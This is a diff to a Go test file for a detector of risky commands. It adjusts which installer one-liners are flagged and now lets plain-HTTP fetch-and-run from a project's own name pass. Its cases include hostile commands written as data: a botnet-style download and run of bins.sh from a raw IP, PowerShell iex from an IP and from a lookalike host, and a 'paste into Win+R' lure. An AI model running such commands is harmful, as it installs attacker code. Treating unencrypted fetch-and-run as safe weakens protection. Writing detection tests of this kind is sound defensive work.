@@ -34,14 +34,17 @@ func TestFileDrops(t *testing.T) {
 
 // TestInstallScripts: a shell script fetched over TLS from a named site is
 // how projects publish their installers (curl -fsSL https://…/install.sh
-// | sh): noted, not flagged alone. Over plain HTTP, or from an address,
-// as botnets serve theirs to devices without TLS, it still warns.
+// | sh): noted, not flagged alone. From an address, as botnets serve
+// theirs to devices without TLS, it still warns; over plain HTTP it is
+// judged as its HTTPS twin on a clean name (cmd42) and still warns on a
+// cheap ending.
 func TestInstallScripts(t *testing.T) {
 	t.Parallel()
 	checkFlagged(t, []flagCase{
 		{"install with curl -fsSL https://get.example-tool.dev/install.sh | sh", false},
 		{"curl -sSf https://toolchain.example.org/init.sh | bash", false},
-		{"wget http://example-tool.dev/install.sh; sh install.sh", true},
+		{"wget http://example-tool.dev/install.sh; sh install.sh", false},
+		{"wget http://example-tool.top/install.sh; sh install.sh", true},
 		{"cd /tmp; wget http://45.61.12.34/bins.sh; sh bins.sh", true},
 		{"https://45.61.12.34/x.sh", true},
 	})
@@ -168,14 +171,17 @@ func TestProjectReleases(t *testing.T) {
 
 // TestPowerShellInstallers: a project's install.ps1 over TLS from a plain
 // site, as install one-liners fetch it, is noted like its install.sh;
-// a script named otherwise, at an address, or over plain HTTP is not.
+// a script named otherwise or at an address is not, nor one over plain
+// HTTP from a name that takes the project's (over plain HTTP from the
+// project's own name it is read as its HTTPS twin: cmd42).
 func TestPowerShellInstallers(t *testing.T) {
 	t.Parallel()
 	checkFlagged(t, []flagCase{
 		{"irm https://bun.sh/install.ps1 | iex", false},
 		{"iwr https://deno.land/install.ps1 -useb | iex", false},
 		{"powershell -c \"iex (irm https://45.61.12.34/install.ps1)\"", true},
-		{"irm http://bun.sh/install.ps1 | iex", true},
+		{"irm http://bun.sh/install.ps1 | iex", false},
+		{"irm http://bun-sh.com/install.ps1 | iex", true},
 		{"press Win+R and paste: powershell iex (irm https://cleanhost-example.com/verify.ps1)", true},
 	})
 }
